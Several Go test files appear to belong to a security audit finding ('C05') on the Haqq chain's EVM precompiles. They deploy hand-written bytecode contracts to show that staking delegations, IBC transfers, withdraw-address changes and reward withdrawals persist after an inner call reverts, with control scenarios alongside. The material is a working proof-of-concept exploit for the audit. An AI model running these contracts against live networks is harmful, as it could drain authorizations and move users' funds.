		Nonce:    s.app.EvmKeeper.GetNonce(s.ctx, s.address),
		To:       &to,
		Amount:   c05Value,
		GasLimit: 1_000_000,
		GasPrice: gasPrice,
		Input:    input,
	})
	msg.From = s.address.Hex()
	res, err := haqqtestutil.DeliverEthTxWithoutCheck(s.app, s.privKey, msg)
	s.Require().NoError(err)
	s.Require().True(res.IsOK(), "deliver tx not OK: %s", res.Log)
	ethRes, err := evmtypes.DecodeTxResponse(res.Data)
	s.Require().NoError(err)
	return res, ethRes, gasPrice
}

type c05Snap struct {
	shares      math.LegacyDec
	bal         math.Int
	allowance   string
	supply      math.Int
	bondedPool  math.Int
	valTokens   math.Int
	innerBal    math.Int
	outerBal    math.Int
	feeCollBal  math.Int
	originNonce uint64
}

func (s *PrecompileTestSuite) c05Snapshot(val sdk.ValAddress, inner, outer common.Address) c05Snap {
	var snap c05Snap
	del, found := s.app.StakingKeeper.GetDelegation(s.ctx, s.address.Bytes(), val)
	if found {
		snap.shares = del.Shares
	} else {
		snap.shares = math.LegacyZeroDec()
	}
	snap.bal = s.app.BankKeeper.GetBalance(s.ctx, s.address.Bytes(), s.bondDenom).Amount
	authz, _ := s.CheckAuthorization(staking.DelegateAuthz, inner, s.address)
	switch {
	case authz == nil:
		snap.allowance = "<no grant>"
	case authz.MaxTokens == nil:
		snap.allowance = "<unlimited>"
	default:
		snap.allowance = authz.MaxTokens.Amount.String()
	}
	snap.supply = s.app.BankKeeper.GetSupply(s.ctx, s.bondDenom).Amount
	snap.bondedPool = s.app.BankKeeper.GetBalance(s.ctx, authtypes.NewModuleAddress(stakingtypes.BondedPoolName), s.bondDenom).Amount
	v, _ := s.app.StakingKeeper.GetValidator(s.ctx, val)
	snap.valTokens = v.Tokens
	snap.innerBal = s.app.BankKeeper.GetBalance(s.ctx, inner.Bytes(), s.bondDenom).Amount
	snap.outerBal = s.app.BankKeeper.GetBalance(s.ctx, outer.Bytes(), s.bondDenom).Amount
	snap.feeCollBal = s.app.BankKeeper.GetBalance(s.ctx, authtypes.NewModuleAddress(authtypes.FeeCollectorName), s.bondDenom).Amount
	snap.originNonce = s.app.EvmKeeper.GetNonce(s.ctx, s.address)
	return snap
}

func c05PrintSnap(tag string, x c05Snap) {
	fmt.Printf("C05 %-18s delegationShares=%s originBank=%s grantAllowance=%s totalSupply=%s bondedPool=%s validatorTokens=%s innerBank=%s outerBank=%s feeCollector=%s nonce=%d\n",
		tag, x.shares, x.bal, x.allowance, x.supply, x.bondedPool, x.valTokens, x.innerBal, x.outerBal, x.feeCollBal, x.originNonce)
}

func c05PrintDelta(tag string, b, a c05Snap, fee *big.Int) {
	balDelta := a.bal.Sub(b.bal)
	fmt.Printf("C05 %-18s d(shares)=%s d(originBank)=%s fee(gasUsed*gasPrice)=%s d(originBank)+fee=%s d(totalSupply)=%s d(bondedPool)=%s d(validatorTokens)=%s d(feeCollector)=%s allowance %s -> %s\n",
		tag, a.shares.Sub(b.shares), balDelta, fee, balDelta.Add(math.NewIntFromBigInt(fee)),
		a.supply.Sub(b.supply), a.bondedPool.Sub(b.bondedPool), a.valTokens.Sub(b.valTokens), a.feeCollBal.Sub(b.feeCollBal), b.allowance, a.allowance)
}

func (s *PrecompileTestSuite) c05Approve(grantee common.Address, amount *big.Int) {
	input, err := s.precompile.ABI.Pack("approve", grantee, amount, []string{staking.DelegateMsg})
	s.Require().NoError(err)
	_, ethRes, _ := s.c05Send(s.precompile.Address(), input)
	s.Require().False(ethRes.Failed(), "approve failed: %s", ethRes.VmError)
	s.c05NextBlock()
	authz, _ := s.CheckAuthorization(staking.DelegateAuthz, grantee, s.address)
	s.Require().NotNil(authz, "grant must exist")
	s.Require().Equal(amount.String(), authz.MaxTokens.Amount.String())
}

func c05Words(ret []byte) []string {
	out := []string{}
	for i := 0; i+32 <= len(ret); i += 32 {
		out = append(out, new(big.Int).SetBytes(ret[i:i+32]).String())
	}
	return out
}

// ---------------------------------------------------------------------------------------
// tests
// ---------------------------------------------------------------------------------------

// Scenario A (the defect): EOA -> OUTER -> INNER -> staking.delegate ; INNER reverts, OUTER ignores, tx succeeds.
func (s *PrecompileTestSuite) TestZZC05InnerRevertKeepsCosmosState() {
	s.c05NextBlock()
	val := s.validators[0].GetOperator()

	inner := s.c05Deploy("INNER", c05Inner(0x0800, 0xfd))
	outer := s.c05Deploy("OUTER", c05Outer(inner))

	grant := big.NewInt(5e17)
	amount := big.NewInt(2e17)
	s.c05Approve(inner, grant)

	before := s.c05Snapshot(val, inner, outer)
	c05PrintSnap("A before", before)

	input, err := s.precompile.ABI.Pack("delegate", s.address, val.String(), amount)
	s.Require().NoError(err)
	fmt.Printf("C05 A calldata=%s\n", hex.EncodeToString(input))
	res, ethRes, gasPrice := s.c05Send(outer, input)
	fee := new(big.Int).Mul(new(big.Int).SetUint64(ethRes.GasUsed), gasPrice)

	fmt.Printf("C05 A txCode=%d vmError=%q failed=%v gasUsed=%d gasPrice=%s ethLogs=%d ret=%s retWords=%v\n",
		res.Code, ethRes.VmError, ethRes.Failed(), ethRes.GasUsed, gasPrice, len(ethRes.Logs), hex.EncodeToString(ethRes.Ret), c05Words(ethRes.Ret))
	for _, ev := range res.Events {
		if ev.Type == stakingtypes.EventTypeDelegate {
			fmt.Printf("C05 A cosmos event %s %v\n", ev.Type, ev.Attributes)
		}
	}

	after := s.c05Snapshot(val, inner, outer)
	c05PrintSnap("A after(same blk)", after)
	c05PrintDelta("A delta", before, after, fee)

	s.c05NextBlock()
	after2 := s.c05Snapshot(val, inner, outer)
	c05PrintSnap("A after(commit)", after2)

	// tx as a whole succeeded
	s.Require().False(ethRes.Failed(), "tx must succeed")
	words := c05Words(ethRes.Ret)
	s.Require().Len(words, 2)
	s.Require().Equal("0", words[0], "call to INNER must have failed (INNER reverted)")
	s.Require().Equal("1", words[1], "precompile call inside INNER must have succeeded")
	// EVM side rolled back
	s.Require().Len(ethRes.Logs, 0, "Delegate log must have been rolled back with the inner frame")

	// The property: nothing of the inner frame may persist.
	violated := !after.shares.Equal(before.shares) || after.allowance != before.allowance
	fmt.Printf("C05 A PROPERTY VIOLATED=%v (delegation persisted=%v, allowance consumed=%v)\n",
		violated, !after.shares.Equal(before.shares), after.allowance != before.allowance)
}

// Scenario B (control): same, but INNER returns instead of reverting.
func (s *PrecompileTestSuite) TestZZC05ControlInnerReturns() {
	s.c05NextBlock()
	val := s.validators[0].GetOperator()

	inner := s.c05Deploy("INNER_OK", c05Inner(0x0800, 0xf3))
	outer := s.c05Deploy("OUTER", c05Outer(inner))

	grant := big.NewInt(5e17)
	amount := big.NewInt(2e17)
	s.c05Approve(inner, grant)

	before := s.c05Snapshot(val, inner, outer)
	c05PrintSnap("B before", before)
	input, err := s.precompile.ABI.Pack("delegate", s.address, val.String(), amount)
	s.Require().NoError(err)
	res, ethRes, gasPrice := s.c05Send(outer, input)
	fee := new(big.Int).Mul(new(big.Int).SetUint64(ethRes.GasUsed), gasPrice)
	fmt.Printf("C05 B txCode=%d vmError=%q failed=%v gasUsed=%d gasPrice=%s ethLogs=%d retWords=%v\n",
		res.Code, ethRes.VmError, ethRes.Failed(), ethRes.GasUsed, gasPrice, len(ethRes.Logs), c05Words(ethRes.Ret))
	after := s.c05Snapshot(val, inner, outer)
	c05PrintSnap("B after(same blk)", after)
	c05PrintDelta("B delta", before, after, fee)
}

// Scenario C (control): EOA -> INNER directly; the TOP frame reverts => tx fails => everything is dropped.
func (s *PrecompileTestSuite) TestZZC05ControlTopLevelRevert() {
	s.c05NextBlock()
	val := s.validators[0].GetOperator()

	inner := s.c05Deploy("INNER", c05Inner(0x0800, 0xfd))

	grant := big.NewInt(5e17)
	amount := big.NewInt(2e17)
	s.c05Approve(inner, grant)

	before := s.c05Snapshot(val, inner, inner)
	c05PrintSnap("C before", before)
	input, err := s.precompile.ABI.Pack("delegate", s.address, val.String(), amount)
	s.Require().NoError(err)
	res, ethRes, gasPrice := s.c05Send(inner, input)
	fee := new(big.Int).Mul(new(big.Int).SetUint64(ethRes.GasUsed), gasPrice)
	fmt.Printf("C05 C txCode=%d vmError=%q failed=%v gasUsed=%d gasPrice=%s ethLogs=%d retWords=%v\n",
		res.Code, ethRes.VmError, ethRes.Failed(), ethRes.GasUsed, gasPrice, len(ethRes.Logs), c05Words(ethRes.Ret))
	after := s.c05Snapshot(val, inner, inner)
	c05PrintSnap("C after(same blk)", after)
	c05PrintDelta("C delta", before, after, fee)
}

// Scenario A2: as A, but the tx carries msg.value = 1 wei (origin is journal-dirty in the StateDB).
func (s *PrecompileTestSuite) TestZZC05ValueInnerRevert() {
	c05Value = big.NewInt(1)
	defer func() { c05Value = nil }()
	s.c05WithValue("A2", 0xfd)
}

// Scenario B2 (control for A2): INNER returns instead of reverting, msg.value = 1 wei.
func (s *PrecompileTestSuite) TestZZC05ValueControlReturn() {
	c05Value = big.NewInt(1)
	defer func() { c05Value = nil }()
	s.c05WithValue("B2", 0xf3)
}

func (s *PrecompileTestSuite) c05WithValue(tag string, final byte) {
	v := c05Value
	c05Value = nil // deploy / approve without value
	s.c05NextBlock()
	val := s.validators[0].GetOperator()
	inner := s.c05Deploy("INNER", c05Inner(0x0800, final))
	outer := s.c05Deploy("OUTER", c05Outer(inner))
	s.c05Approve(inner, big.NewInt(5e17))
	c05Value = v

	before := s.c05Snapshot(val, inner, outer)
	c05PrintSnap(tag+" before", before)
	input, err := s.precompile.ABI.Pack("delegate", s.address, val.String(), big.NewInt(2e17))
	s.Require().NoError(err)
	res, ethRes, gasPrice := s.c05Send(outer, input)
	fee := new(big.Int).Mul(new(big.Int).SetUint64(ethRes.GasUsed), gasPrice)
	fmt.Printf("C05 %s msg.value=%s txCode=%d vmError=%q failed=%v gasUsed=%d gasPrice=%s ethLogs=%d retWords=%v\n",
		tag, v, res.Code, ethRes.VmError, ethRes.Failed(), ethRes.GasUsed, gasPrice, len(ethRes.Logs), c05Words(ethRes.Ret))
	after := s.c05Snapshot(val, inner, outer)
	c05PrintSnap(tag+" after(same blk)", after)
	c05PrintDelta(tag+" delta", before, after, fee)
}
