package ics20_test

// Throw-away demonstration for C05 (ics20 precompile 0x...0802).
//
// Run:
//   go test ./precompiles/ics20/ -run TestPrecompileTestSuite -testify.m TestZZC05 -ginkgo.skip='.*' -count=1 -v

import (
	"encoding/hex"
	"fmt"
	"math/big"

	abci "github.com/cometbft/cometbft/abci/types"
	sdk "github.com/cosmos/cosmos-sdk/types"
	transfertypes "github.com/cosmos/ibc-go/v7/modules/apps/transfer/types"
	"github.com/ethereum/go-ethereum/accounts/abi"
	"github.com/ethereum/go-ethereum/common"

	haqqtestutil "github.com/haqq-network/haqq/testutil"
	evmtypes "github.com/haqq-network/haqq/x/evm/types"
)

func c05Init(runtime []byte) []byte {
	if len(runtime) >= 256 {
		panic("runtime too long")
	}
	prefix := []byte{0x60, byte(len(runtime)), 0x80, 0x60, 0x0b, 0x60, 0x00, 0x39, 0x60, 0x00, 0xf3}
	return append(prefix, runtime...)
}

// see precompiles/staking/zz_c05_test.go for the annotated listing
func c05Inner(target uint16, final byte) []byte {
	return []byte{
		0x36, 0x60, 0x00, 0x60, 0x00, 0x37,
		0x60, 0x00, 0x60, 0x00, 0x36, 0x60, 0x00, 0x60, 0x00,
		0x61, byte(target >> 8), byte(target),
		0x5a, 0xf1,
		0x60, 0x00, 0x52,
		0x60, 0x20, 0x60, 0x00, final,
	}
}

func c05Outer(inner common.Address) []byte {
	code := []byte{
		0x36, 0x60, 0x00, 0x60, 0x00, 0x37,
		0x60, 0x00, 0x60, 0x00, 0x36, 0x60, 0x00, 0x60, 0x00,
		0x73,
	}
	code = append(code, inner.Bytes()...)
	code = append(code,
		0x5a, 0xf1,
		0x60, 0x00, 0x52,
		0x3d, 0x60, 0x00, 0x60, 0x20, 0x3e,
		0x3d, 0x60, 0x20, 0x01, 0x60, 0x00, 0xf3,
	)
	return code
}

func (s *PrecompileTestSuite) c05Ctx() sdk.Context { return s.chainA.GetContext() }

func (s *PrecompileTestSuite) c05Deploy(name string, runtime []byte) common.Address {
	initCode := c05Init(runtime)
	addr, err := DeployContract(s.c05Ctx(), s.app, s.privKey, gasPrice, s.queryClientEVM, evmtypes.CompiledContract{ABI: abi.ABI{}, Bin: initCode})
	s.Require().NoError(err, "deploy %s", name)
	s.chainA.NextBlock()
	acct := s.app.EvmKeeper.GetAccount(s.c05Ctx(), addr)
	s.Require().NotNil(acct, "%s account", name)
	deployed := s.app.EvmKeeper.GetCode(s.c05Ctx(), common.BytesToHash(acct.CodeHash))
	s.Require().Equal(runtime, deployed, "%s deployed code differs from runtime", name)
	fmt.Printf("C05 %-10s addr=%s\n    init=%s\n    runtime=%s\n", name, addr.Hex(), hex.EncodeToString(initCode), hex.EncodeToString(runtime))
	return addr
}

func (s *PrecompileTestSuite) c05Send(to common.Address, input []byte) (abci.ResponseDeliverTx, *evmtypes.MsgEthereumTxResponse) {
	msg := evmtypes.NewTx(&evmtypes.EvmTxArgs{
		ChainID:  s.app.EvmKeeper.ChainID(),
		Nonce:    s.app.EvmKeeper.GetNonce(s.c05Ctx(), s.address),
		To:       &to,
		GasLimit: 1_000_000,
		GasPrice: gasPrice,
		Input:    input,
	})
	msg.From = s.address.Hex()
	res, err := haqqtestutil.DeliverEthTxWithoutCheck(s.app, s.privKey, msg)
	s.Require().NoError(err)
	s.Require().True(res.IsOK(), "deliver tx not OK: %s", res.Log)
	ethRes, err := evmtypes.DecodeTxResponse(res.Data)
	s.Require().NoError(err)
	return res, ethRes
}

func c05Words(ret []byte, n int) []string {
	out := []string{}
	for i := 0; i+32 <= len(ret) && len(out) < n; i += 32 {
		out = append(out, new(big.Int).SetBytes(ret[i:i+32]).String())
	}
	return out
}

func (s *PrecompileTestSuite) c05Transfer(tag string, final byte, viaOuter bool) {
	s.suiteIBCTesting = true
	s.SetupTest()
	s.setupAllocationsForTesting()

	inner := s.c05Deploy("INNER"+tag, c05Inner(0x0802, final))
	target := inner
	if viaOuter {
		target = s.c05Deploy("OUTER"+tag, c05Outer(inner))
	}

	// origin grants INNER a transfer authorization of 1e18 aISLM on transfer/channel-0
	approveInput, err := s.precompile.ABI.Pack("approve", inner, defaultSingleAlloc)
	s.Require().NoError(err)
	_, ethRes := s.c05Send(s.precompile.Address(), approveInput)
	s.Require().False(ethRes.Failed(), "approve failed: %s", ethRes.VmError)
	s.chainA.NextBlock()

	port := s.transferPath.EndpointA.ChannelConfig.PortID
	channel := s.transferPath.EndpointA.ChannelID
	escrow := transfertypes.GetEscrowAddress(port, channel)
	amount := big.NewInt(3e17)

	type snap struct {
		bal, escrowBal, supply sdk.Coin
		nextSeq                uint64
		hasCommitment          bool
		allowance              string
	}
	take := func() snap {
		ctx := s.c05Ctx()
		var x snap
		x.bal = s.app.BankKeeper.GetBalance(ctx, s.address.Bytes(), s.bondDenom)
		x.escrowBal = s.app.BankKeeper.GetBalance(ctx, escrow, s.bondDenom)
		x.supply = s.app.BankKeeper.GetSupply(ctx, s.bondDenom)
		x.nextSeq, _ = s.app.IBCKeeper.ChannelKeeper.GetNextSequenceSend(ctx, port, channel)
		x.hasCommitment = len(s.app.IBCKeeper.ChannelKeeper.GetPacketCommitment(ctx, port, channel, 1)) > 0
		authz := s.GetTransferAuthorization(ctx, inner, s.address)
		if authz == nil {
			x.allowance = "<no grant>"
		} else {
			x.allowance = authz.Allocations[0].SpendLimit.String()
		}
		return x
	}

	before := take()
	input, err := s.precompile.ABI.Pack("transfer",
		port, channel, s.bondDenom, amount, s.address,
		s.chainB.SenderAccount.GetAddress().String(),
		s.chainB.GetTimeoutHeight(), uint64(0), "memo",
	)
	s.Require().NoError(err)
	res, ethRes := s.c05Send(target, input)
	fee := new(big.Int).Mul(new(big.Int).SetUint64(ethRes.GasUsed), gasPrice)
	after := take()

	nSend, nTransfer := 0, 0
	for _, ev := range res.Events {
		switch ev.Type {
		case "send_packet":
			nSend++
		case transfertypes.EventTypeTransfer:
			nTransfer++
		}
	}
	fmt.Printf("C05 %s ics20.transfer: txCode=%d vmError=%q failed=%v gasUsed=%d fee=%s ethLogs=%d cosmos send_packet events=%d ibc_transfer events=%d retWords=%v\n",
		tag, res.Code, ethRes.VmError, ethRes.Failed(), ethRes.GasUsed, fee, len(ethRes.Logs), nSend, nTransfer, c05Words(ethRes.Ret, 2))
	fmt.Printf("C05 %s   before: originBank=%s escrowBank=%s nextSeqSend=%d packetCommitment(seq1)=%v grantSpendLimit=%s totalSupply=%s\n",
		tag, before.bal.Amount, before.escrowBal.Amount, before.nextSeq, before.hasCommitment, before.allowance, before.supply.Amount)
	fmt.Printf("C05 %s   after : originBank=%s escrowBank=%s nextSeqSend=%d packetCommitment(seq1)=%v grantSpendLimit=%s totalSupply=%s\n",
		tag, after.bal.Amount, after.escrowBal.Amount, after.nextSeq, after.hasCommitment, after.allowance, after.supply.Amount)
	dBal := after.bal.Amount.Sub(before.bal.Amount)
	fmt.Printf("C05 %s   d(originBank)=%s d(originBank)+fee=%s d(escrowBank)=%s d(totalSupply)=%s\n",
		tag, dBal, dBal.Add(sdk.NewIntFromBigInt(fee)), after.escrowBal.Amount.Sub(before.escrowBal.Amount), after.supply.Amount.Sub(before.supply.Amount))

	s.chainA.NextBlock()
	committed := take()
	fmt.Printf("C05 %s   after commit: originBank=%s escrowBank=%s nextSeqSend=%d packetCommitment(seq1)=%v grantSpendLimit=%s\n",
		tag, committed.bal.Amount, committed.escrowBal.Amount, committed.nextSeq, committed.hasCommitment, committed.allowance)
}

func (s *PrecompileTestSuite) TestZZC05TransferInnerRevert()   { s.c05Transfer("I", 0xfd, true) }
func (s *PrecompileTestSuite) TestZZC05TransferControlReturn() { s.c05Transfer("I-ctlB", 0xf3, true) }
func (s *PrecompileTestSuite) TestZZC05TransferControlTopRevert() {
	s.c05Transfer("I-ctlC", 0xfd, false)
}
