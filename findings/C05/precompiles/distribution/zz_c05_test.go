package distribution_test

// Throw-away demonstration for C05 (distribution precompile 0x...0801).
//
// Run:
//   go test ./precompiles/distribution/ -run TestPrecompileTestSuite -testify.m TestZZC05 -ginkgo.skip='.*' -count=1 -v

import (
	"encoding/hex"
	"fmt"
	"math/big"

	abci "github.com/cometbft/cometbft/abci/types"
	sdk "github.com/cosmos/cosmos-sdk/types"
	distrkeeper "github.com/cosmos/cosmos-sdk/x/distribution/keeper"
	distrtypes "github.com/cosmos/cosmos-sdk/x/distribution/types"
	"github.com/ethereum/go-ethereum/accounts/abi"
	"github.com/ethereum/go-ethereum/common"

	haqqtestutil "github.com/haqq-network/haqq/testutil"
	testutiltx "github.com/haqq-network/haqq/testutil/tx"
	evmtypes "github.com/haqq-network/haqq/x/evm/types"
)

func c05Init(runtime []byte) []byte {
	if len(runtime) >= 256 {
		panic("runtime too long")
	}
	prefix := []byte{0x60, byte(len(runtime)), 0x80, 0x60, 0x0b, 0x60, 0x00, 0x39, 0x60, 0x00, 0xf3}
	return append(prefix, runtime...)
}

// see precompiles/staking/zz_c05_test.go for the annotated listing
func c05Inner(target uint16, final byte) []byte {
	return []byte{
		0x36, 0x60, 0x00, 0x60, 0x00, 0x37,
		0x60, 0x00, 0x60, 0x00, 0x36, 0x60, 0x00, 0x60, 0x00,
		0x61, byte(target >> 8), byte(target),
		0x5a, 0xf1,
		0x60, 0x00, 0x52,
		0x60, 0x20, 0x60, 0x00, final,
	}
}

func c05Outer(inner common.Address) []byte {
	code := []byte{
		0x36, 0x60, 0x00, 0x60, 0x00, 0x37,
		0x60, 0x00, 0x60, 0x00, 0x36, 0x60, 0x00, 0x60, 0x00,
		0x73,
	}
	code = append(code, inner.Bytes()...)
	code = append(code,
		0x5a, 0xf1,
		0x60, 0x00, 0x52,
		0x3d, 0x60, 0x00, 0x60, 0x20, 0x3e,
		0x3d, 0x60, 0x20, 0x01, 0x60, 0x00, 0xf3,
	)
	return code
}

func (s *PrecompileTestSuite) c05Deploy(name string, runtime []byte) common.Address {
	initCode := c05Init(runtime)
	addr, err := s.DeployContract(evmtypes.CompiledContract{ABI: abi.ABI{}, Bin: initCode})
	s.Require().NoError(err, "deploy %s", name)
	// NOTE: no NextBlock here: this suite's genesis funds the distribution module account without
	// book-keeping, so the crisis invariant check (every 5th block) panics in EndBlock at height 5
	// independently of this test. Keep the number of committed blocks below that.
	acct := s.app.EvmKeeper.GetAccount(s.ctx, addr)
	s.Require().NotNil(acct, "%s account", name)
	deployed := s.app.EvmKeeper.GetCode(s.ctx, common.BytesToHash(acct.CodeHash))
	s.Require().Equal(runtime, deployed, "%s deployed code differs from runtime", name)
	fmt.Printf("C05 %-10s addr=%s\n    init=%s\n    runtime=%s\n", name, addr.Hex(), hex.EncodeToString(initCode), hex.EncodeToString(runtime))
	return addr
}

func (s *PrecompileTestSuite) c05Send(to common.Address, input []byte) (abci.ResponseDeliverTx, *evmtypes.MsgEthereumTxResponse, *big.Int) {
	gasPrice := s.app.FeeMarketKeeper.GetBaseFee(s.ctx)
	msg := evmtypes.NewTx(&evmtypes.EvmTxArgs{
		ChainID:  s.app.EvmKeeper.ChainID(),
		Nonce:    s.app.EvmKeeper.GetNonce(s.ctx, s.address),
		To:       &to,
		GasLimit: 1_000_000,
		GasPrice: gasPrice,
		Input:    input,
	})
	msg.From = s.address.Hex()
	res, err := haqqtestutil.DeliverEthTxWithoutCheck(s.app, s.privKey, msg)
	s.Require().NoError(err)
	s.Require().True(res.IsOK(), "deliver tx not OK: %s", res.Log)
	ethRes, err := evmtypes.DecodeTxResponse(res.Data)
	s.Require().NoError(err)
	return res, ethRes, gasPrice
}

func c05Words(ret []byte, n int) []string {
	out := []string{}
	for i := 0; i+32 <= len(ret) && len(out) < n; i += 32 {
		out = append(out, new(big.Int).SetBytes(ret[i:i+32]).String())
	}
	return out
}

// D1: setWithdrawAddress inside a reverted inner frame.
func (s *PrecompileTestSuite) c05SetWithdrawAddr(tag string, final byte, viaOuter bool) {
	inner := s.c05Deploy("INNER"+tag, c05Inner(0x0801, final))
	target := inner
	if viaOuter {
		target = s.c05Deploy("OUTER"+tag, c05Outer(inner))
	}

	newWithdrawer := testutiltx.GenerateAddress()
	before := s.app.DistrKeeper.GetDelegatorWithdrawAddr(s.ctx, s.address.Bytes())
	input, err := s.precompile.ABI.Pack("setWithdrawAddress", s.address, sdk.AccAddress(newWithdrawer.Bytes()).String())
	s.Require().NoError(err)
	res, ethRes, _ := s.c05Send(target, input)
	after := s.app.DistrKeeper.GetDelegatorWithdrawAddr(s.ctx, s.address.Bytes())
	s.NextBlock()
	afterCommit := s.app.DistrKeeper.GetDelegatorWithdrawAddr(s.ctx, s.address.Bytes())

	nCosmos := 0
	for _, ev := range res.Events {
		if ev.Type == distrtypes.EventTypeSetWithdrawAddress {
			nCosmos++
		}
	}
	fmt.Printf("C05 %s setWithdrawAddress: txCode=%d vmError=%q failed=%v ethLogs=%d cosmosSetWithdrawAddrEvents=%d retWords=%v\n",
		tag, res.Code, ethRes.VmError, ethRes.Failed(), len(ethRes.Logs), nCosmos, c05Words(ethRes.Ret, 2))
	fmt.Printf("C05 %s   origin=%s requestedWithdrawer=%s\n", tag, sdk.AccAddress(s.address.Bytes()), sdk.AccAddress(newWithdrawer.Bytes()))
	fmt.Printf("C05 %s   withdrawAddr before=%s after(same blk)=%s after(commit)=%s CHANGED=%v\n",
		tag, before, after, afterCommit, !before.Equals(afterCommit))
}

func (s *PrecompileTestSuite) TestZZC05SetWithdrawAddrInnerRevert() {
	s.NextBlock()
	s.c05SetWithdrawAddr("D1", 0xfd, true)
}

func (s *PrecompileTestSuite) TestZZC05SetWithdrawAddrControlReturn() {
	s.NextBlock()
	s.c05SetWithdrawAddr("D1-ctlB", 0xf3, true)
}

func (s *PrecompileTestSuite) TestZZC05SetWithdrawAddrControlTopRevert() {
	s.NextBlock()
	s.c05SetWithdrawAddr("D1-ctlC", 0xfd, false)
}

// D2: withdrawDelegatorRewards inside a reverted inner frame.
func (s *PrecompileTestSuite) c05WithdrawRewards(tag string, final byte, viaOuter bool) {
	inner := s.c05Deploy("INNER"+tag, c05Inner(0x0801, final))
	target := inner
	if viaOuter {
		target = s.c05Deploy("OUTER"+tag, c05Outer(inner))
	}

	s.prepareStakingRewards(stakingRewards{s.address.Bytes(), s.validators[0], rewards})
	val := s.validators[0].GetOperator()

	type snap struct {
		bal, distrBal, supply sdk.Coin
		pending               sdk.DecCoins
	}
	take := func() snap {
		var x snap
		x.bal = s.app.BankKeeper.GetBalance(s.ctx, s.address.Bytes(), s.bondDenom)
		x.distrBal = s.app.BankKeeper.GetBalance(s.ctx, s.app.DistrKeeper.GetDistributionAccount(s.ctx).GetAddress(), s.bondDenom)
		x.supply = s.app.BankKeeper.GetSupply(s.ctx, s.bondDenom)
		// query pending rewards on a branch so the measurement itself writes nothing
		qctx, _ := s.ctx.CacheContext()
		resp, err := distrkeeper.NewQuerier(s.app.DistrKeeper).DelegationRewards(qctx, &distrtypes.QueryDelegationRewardsRequest{
			DelegatorAddress: sdk.AccAddress(s.address.Bytes()).String(),
			ValidatorAddress: val.String(),
		})
		s.Require().NoError(err)
		x.pending = resp.Rewards
		return x
	}

	before := take()
	input, err := s.precompile.ABI.Pack("withdrawDelegatorRewards", s.address, val.String())
	s.Require().NoError(err)
	res, ethRes, gasPrice := s.c05Send(target, input)
	fee := new(big.Int).Mul(new(big.Int).SetUint64(ethRes.GasUsed), gasPrice)
	after := take()

	nCosmos := 0
	for _, ev := range res.Events {
		if ev.Type == distrtypes.EventTypeWithdrawRewards {
			nCosmos++
		}
	}
	fmt.Printf("C05 %s withdrawDelegatorRewards: txCode=%d vmError=%q failed=%v gasUsed=%d gasPrice=%s fee=%s ethLogs=%d cosmosWithdrawRewardsEvents=%d retWords=%v\n",
		tag, res.Code, ethRes.VmError, ethRes.Failed(), ethRes.GasUsed, gasPrice, fee, len(ethRes.Logs), nCosmos, c05Words(ethRes.Ret, 2))
	fmt.Printf("C05 %s   before: originBank=%s distrModuleBank=%s pendingRewards=%s totalSupply=%s\n", tag, before.bal.Amount, before.distrBal.Amount, before.pending, before.supply.Amount)
	fmt.Printf("C05 %s   after : originBank=%s distrModuleBank=%s pendingRewards=%s totalSupply=%s\n", tag, after.bal.Amount, after.distrBal.Amount, after.pending, after.supply.Amount)
	dBal := after.bal.Amount.Sub(before.bal.Amount)
	fmt.Printf("C05 %s   d(originBank)=%s d(originBank)+fee=%s d(distrModuleBank)=%s d(totalSupply)=%s\n",
		tag, dBal, dBal.Add(sdk.NewIntFromBigInt(fee)), after.distrBal.Amount.Sub(before.distrBal.Amount), after.supply.Amount.Sub(before.supply.Amount))
}

func (s *PrecompileTestSuite) TestZZC05WithdrawRewardsInnerRevert() {
	s.NextBlock()
	s.c05WithdrawRewards("D2", 0xfd, true)
}

func (s *PrecompileTestSuite) TestZZC05WithdrawRewardsControlReturn() {
	s.NextBlock()
	s.c05WithdrawRewards("D2-ctlB", 0xf3, true)
}

func (s *PrecompileTestSuite) TestZZC05WithdrawRewardsControlTopRevert() {
	s.NextBlock()
	s.c05WithdrawRewards("D2-ctlC", 0xfd, false)
}
