package staking_test

import (
	"math/big"
	"time"

	"github.com/ethereum/go-ethereum/accounts/abi"
	"github.com/ethereum/go-ethereum/common"
	"github.com/ethereum/go-ethereum/crypto"

	bankprecompile "github.com/haqq-network/haqq/precompiles/bank"
	haqqtestutil "github.com/haqq-network/haqq/testutil"
	"github.com/haqq-network/haqq/utils"
	evmtypes "github.com/haqq-network/haqq/x/evm/types"
)

// zzInit wraps a runtime (< 256 bytes) into init code that returns it, optionally preceded by a prologue
// that runs in the constructor.
func zzInit(prologue, runtime []byte) []byte {
	// PUSH1 len DUP1 PUSH1 off PUSH1 0 CODECOPY PUSH1 0 RETURN   (11 bytes)
	off := byte(len(prologue) + 11)
	code := append([]byte{}, prologue...)
	code = append(code, 0x60, byte(len(runtime)), 0x80, 0x60, off, 0x60, 0x00, 0x39, 0x60, 0x00, 0xf3)
	return append(code, runtime...)
}

// victim: slot 0 = 0xaa from the constructor.
//
//	calldata[0] == 0xff : selfdestruct(tx.origin)
//	calldata[0] == 0x01 : sstore(1, 0xbb)
//	otherwise           : stop (accepts value)
var zzVictimRuntime = []byte{
	0x60, 0x00, 0x35, 0x60, 0xf8, 0x1c, // first calldata byte
	0x80, 0x60, 0xff, 0x14, 0x60, 0x15, 0x57, // == 0xff -> 0x15
	0x80, 0x60, 0x01, 0x14, 0x60, 0x18, 0x57, // == 0x01 -> 0x18
	0x00,             // stop
	0x5b, 0x32, 0xff, // 0x15: selfdestruct(origin)
	0x5b, 0x60, 0xbb, 0x60, 0x01, 0x55, 0x00, // 0x18: sstore(1, 0xbb); stop
}

var zzVictimPrologue = []byte{0x60, 0xaa, 0x60, 0x00, 0x55} // sstore(0, 0xaa)

// inner(victim): victim.call(0xff) [victim selfdestructs]; bank.totalSupply() [a view call on a precompile]; revert.
func zzInnerRuntime(selector []byte) []byte {
	code := []byte{
		0x60, 0xff, 0x60, 0x00, 0x53, // mstore8(0, 0xff)
		0x60, 0x00, 0x60, 0x00, 0x60, 0x01, 0x60, 0x00, 0x60, 0x00, // out 0/0, in 0/1, value 0
		0x60, 0x00, 0x35, 0x5a, 0xf1, 0x50, // call(gas, calldata word 0, ...); pop
		0x63,
	}
	code = append(code, selector...)
	code = append(code,
		0x60, 0xe0, 0x1b, 0x60, 0x00, 0x52, // mstore(0, selector << 224)
		0x60, 0x20, 0x60, 0x20, 0x60, 0x04, 0x60, 0x00, 0x60, 0x00, // out 0x20/0x20, in 0/4, value 0
		0x61, 0x08, 0x04, 0x5a, 0xf1, // call(gas, 0x0804, ...)
		0x60, 0x00, 0x60, 0x00, 0xfd, // revert(0, 0)
	)
	return code
}

